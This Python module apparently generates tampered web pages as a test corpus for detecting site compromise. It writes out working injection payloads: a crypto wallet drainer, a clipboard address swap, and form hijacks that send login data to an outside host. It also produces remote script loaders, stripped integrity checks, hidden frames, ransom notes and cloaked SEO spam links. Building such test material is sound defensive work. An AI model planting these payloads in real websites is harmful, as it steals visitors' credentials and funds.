"""Rarer ways in: drainers, pop-unders, scripts in pictures, whole pages of bets, ransom notes, frames of frames."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

import re
from random import Random

from tests.tamper.corpus.attacks.kit import (
    address,
    attack,
    body_place,
    garble,
    host,
    insert,
    loader,
    place,
    script_path,
    tagged,
)
from tests.tamper.corpus.attacks.vice import SPAM, slogan, terms
from tests.tamper.corpus.markup import Document, Edit, apply, escape, set_attribute
from tests.tamper.corpus.site import Site, link, token


@attack("wallet_drainer", "malicious_script")
def wallet_drainer(site: Site, document: Document, rng: Random) -> str | None:
    wallet = "0x" + token(rng, 40)
    code = rng.choice([
        f"window.ethereum&&ethereum.request({{method:'eth_requestAccounts'}}).then(function(a){{ethereum.request({{method:'eth_sendTransaction',params:[{{from:a[0],to:'{wallet}',value:'0x2386F26FC10000'}}]}})}});",
        f"document.addEventListener('copy',function(e){{e.clipboardData.setData('text/plain','{wallet}');e.preventDefault()}});",
        f"setInterval(function(){{document.body.innerHTML=document.body.innerHTML.replace(/0x[a-fA-F0-9]{{40}}/g,'{wallet}')}},900);",
    ])  # fmt: skip
    if rng.random() < 0.5:
        code += loader(rng, address(rng, site, script_path(rng)))
    return insert(document, place(document, rng), tagged(garble(rng, code), rng))


@attack("pop_under", "malicious_script")
def pop_under(site: Site, document: Document, rng: Random) -> str | None:
    target = address(rng, site, f"?z={rng.randrange(10**6)}")
    code = f"document.addEventListener('{rng.choice(['click', 'mousedown', 'touchstart'])}',function(){{window.open('{target}')}},{{once:true}});"
    return insert(document, place(document, rng), tagged(garble(rng, code), rng))


@attack("svg_script", "malicious_script")
def svg_script(site: Site, document: Document, rng: Random) -> str | None:
    source = address(rng, site, script_path(rng))
    html = rng.choice([
        f'<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"><script href="{source}"></script></svg>',
        f'<svg width="0" height="0"><script>{loader(rng, source)}</script></svg>',
        f'<script type="importmap">{{"imports":{{"app":"{source}"}}}}</script><script type="module">import "app";</script>',
        f'<link rel="modulepreload" href="{source}"><script type="module">import("{source}")</script>',
    ])  # fmt: skip
    return insert(document, body_place(document, rng), html)


@attack("form_onsubmit", "form_hijack", needs=("login",))
def form_onsubmit(site: Site, document: Document, rng: Random) -> str | None:
    forms = [f for f in document.find("form") if "onsubmit" not in f.attributes]
    if not forms:
        return None
    form = rng.choice(forms)
    target = host(rng, site)
    code = rng.choice([
        f"this.action='https://{target}/l.php'", f"navigator.sendBeacon('https://{target}/',new FormData(this))",
        f"new Image().src='//{target}/p?'+new URLSearchParams(new FormData(this))",
    ])  # fmt: skip
    tag = set_attribute(document.source[form.start : form.inner], "onsubmit", code)
    return apply(document.source, [Edit(form.start, form.inner, tag)])


@attack("form_script", "form_hijack", needs=("login",))
def form_script(site: Site, document: Document, rng: Random) -> str | None:
    """A script that re-points the page's forms."""
    target = address(rng, site, "in.php")
    code = rng.choice([
        f"for(var i=0;i<document.forms.length;i++)document.forms[i].action='{target}';",
        f"document.querySelector('form').setAttribute('action','{target}');",
        f"[].forEach.call(document.querySelectorAll('form'),function(f){{f.action='{target}';f.method='get'}});",
    ])  # fmt: skip
    return insert(document, document.body_end, tagged(garble(rng, code), rng))


@attack("spam_page", "sensitive_word")
def spam_page(site: Site, document: Document, rng: Random) -> str | None:
    """The whole page is a betting shop's or a pharmacy's now."""
    words = terms(rng, site.language, 8)
    rows = "".join(f"<li>{link(address(rng, site), word)}</li>" for word in words)
    body = f"<h1>{escape(words[0])}</h1><p>{escape(' '.join(words * 3))}</p><ul>{rows}</ul>"
    if rng.random() < 0.5:
        return document.source[: document.body_start] + body + document.source[document.body_end :]
    return f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{escape(words[0])}</title></head><body>{body}</body></html>"


@attack("words_in_attributes", "sensitive_word")
def words_in_attributes(site: Site, document: Document, rng: Random) -> str | None:
    """The names of several pictures and links speak of bets."""
    elements = [e for e in document.find("img", "a") if e.start > document.body_start]
    if len(elements) < 3:
        return None
    chosen = rng.sample(elements, 3)
    edits = []
    for element in chosen:
        key = "alt" if element.name == "img" else "title"
        tag = set_attribute(
            document.source[element.start : element.inner], key, " ".join(terms(rng, site.language, 3))
        )
        edits.append(Edit(element.start, element.inner, tag))
    return apply(document.source, edits)


@attack("structured_spam", "seo_spam")
def structured_spam(site: Site, document: Document, rng: Random) -> str | None:
    words = terms(rng, site.language, 3)
    target = f"https://{host(rng, site)}/"
    html = rng.choice([
        f'<script type="application/ld+json">{{"@context":"https://schema.org","@type":"Product","name":"{words[0]}","description":"{" ".join(words)}","url":"{target}"}}</script>',
        f'<meta property="og:title" content="{escape(" ".join(words))}"><meta property="og:url" content="{target}">',
        f'<meta itemprop="name" content="{escape(" ".join(words))}"><meta name="twitter:title" content="{escape(words[0])}">',
    ])  # fmt: skip
    return insert(document, document.head_end, html)


@attack("doorway_links", "seo_spam")
def doorway_links(site: Site, document: Document, rng: Random) -> str | None:
    """Dozens of links to doorway pages planted on the page's own host, full of such words."""
    words = terms(rng, site.language, 8)
    rows = " ".join(
        link(f"/{rng.choice(['wp-content', 'images', 'tmp'])}/{token(rng, 5)}.php?k={n}", w)
        for n, w in enumerate(words)
    )
    return insert(document, body_place(document, rng), f"<div>{rows}</div>")


@attack("ransom_note", "defacement")
def ransom_note(site: Site, document: Document, rng: Random) -> str | None:
    coin = "bc1q" + token(rng, 38, "023456789acdefghjklmnpqrstuvwxyz")
    text = rng.choice([
        f"Your database has been downloaded and backed up on our servers. To recover it send 0.03 BTC to {coin}.",
        f"All your files are encrypted! Pay 0.1 BTC to {coin} within 72 hours.", f"您的网站数据已被加密，请支付 0.05 比特币至 {coin}",
    ])  # fmt: skip
    if rng.random() < 0.5:
        return f"<html><body><h2>{text}</h2></body></html>"
    return insert(document, document.body_start, f"<div><h2>{text}</h2></div>")


@attack("heading_hacked", "defacement")
def heading_hacked(site: Site, document: Document, rng: Random) -> str | None:
    """Every heading and link text says the same."""
    text = escape(slogan(rng))
    targets = [e for e in document.find("h1", "h2", "h3", "a") if not e.children and document.text(e)]
    if len(targets) < 4:
        return None
    return apply(document.source, [Edit(e.inner, e.inner_end, text) for e in targets])


@attack("frameset", "hidden_iframe")
def frameset(site: Site, document: Document, rng: Random) -> str | None:
    """The page becomes a frame around somebody else's."""
    target = address(rng, site)
    title = document.first("title")
    head = f"<head><title>{document.inner(title) if title else site.owner}</title></head>"
    return rng.choice([
        f'<html>{head}<frameset rows="100%,*"><frame src="{target}"><frame src="about:blank"></frameset></html>',
        f'<html>{head}<body style="margin:0"><iframe src="{target}" style="width:100%;height:100vh;border:0"></iframe></body></html>',
    ])  # fmt: skip


@attack("integrity_removed", "resource_replaced", needs=("cdn_script",))
def integrity_removed(site: Site, document: Document, rng: Random) -> str | None:
    scripts = [s for s in document.find("script") if "integrity" in s.attributes]
    if not scripts:
        return None
    script = rng.choice(scripts)
    tag = re.sub(
        r"\s(integrity|crossorigin)(\s*=\s*(\"[^\"]*\"|'[^']*'))?",
        "",
        document.source[script.start : script.inner],
    )
    path = script.attributes["src"].split("//")[-1].partition("/")[2]
    return apply(
        document.source,
        [Edit(script.start, script.inner, set_attribute(tag, "src", f"https://{host(rng, site)}/{path}"))],
    )


@attack("links_hidden_by_stylesheet", "dark_link")
def links_hidden_by_stylesheet(site: Site, document: Document, rng: Random) -> str | None:
    """A rule slipped into a style element of the page's own hides the links."""
    styles = [s for s in document.find("style") if document.inner(s).rstrip().endswith("}")]
    if not styles:
        return None
    style = rng.choice(styles)
    css = token(rng, 5, "abcdefgh")
    rule = rng.choice(
        [
            "display:none",
            "position:absolute;left:-9999px",
            "height:0;overflow:hidden",
            "opacity:0;font-size:0",
        ]
    )
    inner = " ".join(link(address(rng, site), word) for word in terms(rng, site.language, 4))
    cut = style.inner + len(document.inner(style).rstrip())
    spot = body_place(document, rng)
    return apply(
        document.source,
        [Edit(cut, cut, f".{css}{{{rule}}}"), Edit(spot, spot, f'<div class="{css}">{inner}</div>')],
    )


@attack("many_languages", "dark_link")
def many_languages(site: Site, document: Document, rng: Random) -> str | None:
    """A heap of links in a language that is not the page's."""
    foreign = [theme for theme in SPAM if not theme.endswith(site.language)]
    words = SPAM[rng.choice(foreign)].split("|")
    rows = "".join(f"<li>{link(address(rng, site), word)}</li>" for word in words)
    return insert(document, body_place(document, rng), f"<ul>{rows}</ul>")


@attack("alternate_hijack", "seo_spam")
def alternate_hijack(site: Site, document: Document, rng: Random) -> str | None:
    target = f"https://{host(rng, site)}/"
    html = rng.choice([
        f'<link rel="alternate" hreflang="x-default" href="{target}"><link rel="canonical" href="{target}">',
        f'<link rel="amphtml" href="{target}amp"><link rel="canonical" href="{target}">',
    ])  # fmt: skip
    return insert(document, document.head_start, html)
